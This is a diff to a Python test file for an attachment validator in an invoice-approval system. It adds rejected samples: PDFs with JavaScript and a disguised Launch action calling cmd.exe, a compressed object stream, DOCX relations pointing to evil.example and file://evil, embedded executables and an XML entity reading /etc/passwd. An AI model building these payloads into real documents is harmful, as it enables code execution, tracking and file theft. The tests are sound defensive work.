@@ -16,7 +16,7 @@ from PIL import Image
 from sqlmodel import Session, select
 
 from models import Event, Role, State
-from services import attachments
+from services import attachments, audit
 from services.attachments import (
     CheckedFile,
     attach,
@@ -98,6 +98,18 @@ def package(parts: dict[str, bytes]) -> bytes:
     return out.getvalue()
 
 
+def packed_pdf(action: bytes) -> bytes:
+    packed = zlib.compress(b"5 0 " + action)
+    stream = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream"
+    return pdf(extra=(stream % (len(packed), packed),))
+
+
+def with_relation(kind: str, target: str) -> bytes:
+    relation = f'<Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'
+    relations = f"<Relationships>{relation}</Relationships>".encode()
+    return package({"word/document.xml": b"<a/>", "word/_rels/document.xml.rels": relations})
+
+
 XLSX = package({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"})
 DOCX = package({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document xmlns:w='x'/>"})
 OFD = package({"OFD.xml": b"<ofd:OFD xmlns:ofd='x'/>", "Doc_0/Document.xml": b"<a/>"})
@@ -111,6 +123,8 @@ GOOD = {
     "票.JPEG": picture("JPEG"),
     "清单.xlsx": XLSX,
     "说明.docx": DOCX,
+    "链接.docx": with_relation("hyperlink", "https://www.chinatax.gov.cn"),
+    "压缩.pdf": packed_pdf(b"<</Type/Metadata>>"),
     "电子发票.ofd": OFD,
     "电子发票.xml": XML,
     "旧.xml": GBK,
@@ -157,9 +171,21 @@ BAD = {
     "attachment.xml_dtd": {
         "entity.xml": b'<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>',
         "file.xml": b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
+        "another part.xlsx": package({"xl/workbook.xml": b"<a/>", "xl/a.xml": b"<!DOCTYPE a []><a/>"}),
+        "two bytes.xlsx": package({"xl/workbook.xml": b"<a/>", "xl/a.xml": "<!DOCTYPE a []><a/>".encode("utf-16")}),
         "inside.ofd": package({"OFD.xml": b'<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>'}),
     },
     "attachment.macros": {"a.xlsx": package({"xl/workbook.xml": b"<a/>", "xl/vbaProject.bin": b"x"})},
+    "attachment.active": {
+        "script.pdf": pdf(extra=(b"<</S/JavaScript/JS(app.alert\\(1\\))>>",)),
+        "launch.pdf": pdf(extra=(b"<</S/#4caunch/F(cmd.exe)>>",)),
+        "packed.pdf": packed_pdf(b"<</S/JavaScript/JS(1)>>"),
+        "template.docx": with_relation("attachedTemplate", "https://evil.example/a.dotm"),
+        "object.docx": with_relation("oleObject", "file://evil/a"),
+        "tracked.docx": with_relation("image", "https://evil.example/seen.png"),
+        "embedded.docx": package({"word/document.xml": b"<a/>", "word/embeddings/oleObject1.bin": b"MZ"}),
+        "program.docx": package({"word/document.xml": b"<a/>", "word/media/a.EXE": b"MZ"}),
+    },
     "attachment.old_office": {"a.xlsx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)},
 }
 
@@ -356,7 +382,7 @@ def test_a_file_decided_on_stays(session, cast, draft) -> None:
     file = attach(session, cast.engineer, draft, "发票.pdf", pdf(), NOW)
     draft.state, draft.number = State.RUNNING, "TR-202611-0001"
     session.flush()
-    assert not may_remove(cast.engineer, draft, file)
+    assert not may_remove(session, cast.engineer, draft, file)
     with pytest.raises(Refused, match="attachment.not_removable"):
         remove(session, cast.engineer, file.id, NOW)
     draft.state = State.RETURNED
@@ -368,6 +394,26 @@ def test_nobody_takes_off_what_another_brought(session, cast, running) -> None:
     running.state = State.RETURNED
     with pytest.raises(Refused, match="attachment.not_removable"):
         remove(session, cast.engineer, file.id, NOW)
+
+
+def test_a_signers_file_stays_once_somebody_decided_with_it(session, cast, running) -> None:
+    """P8-3.2: what a decision was made on does not vanish behind it"""
+    file = attach(session, cast.department_head, running, "意见.pdf", pdf(), NOW)
+    other = attach(session, cast.department_head, running, "草稿.pdf", pdf(2), NOW)
+    audit.record(
+        session, now=NOW, action="approve", actor=cast.clerk, document=running, step="x", data={"files": [file.sha256]}
+    )
+    running.state = State.RETURNED
+    with pytest.raises(Refused, match="attachment.not_removable"):
+        remove(session, cast.department_head, file.id, NOW)
+    remove(session, cast.department_head, other.id, NOW)
+
+
+def test_a_name_of_megabytes_is_cleaned_at_once() -> None:
+    name = "a" + "\u0315\u0300" * 500_000 + ".pdf"
+    began = computing()
+    contents.clean_name(name, contents.TYPES["pdf"], fallback="x")
+    assert computing() - began < 1
 
 
 # --- who may read them
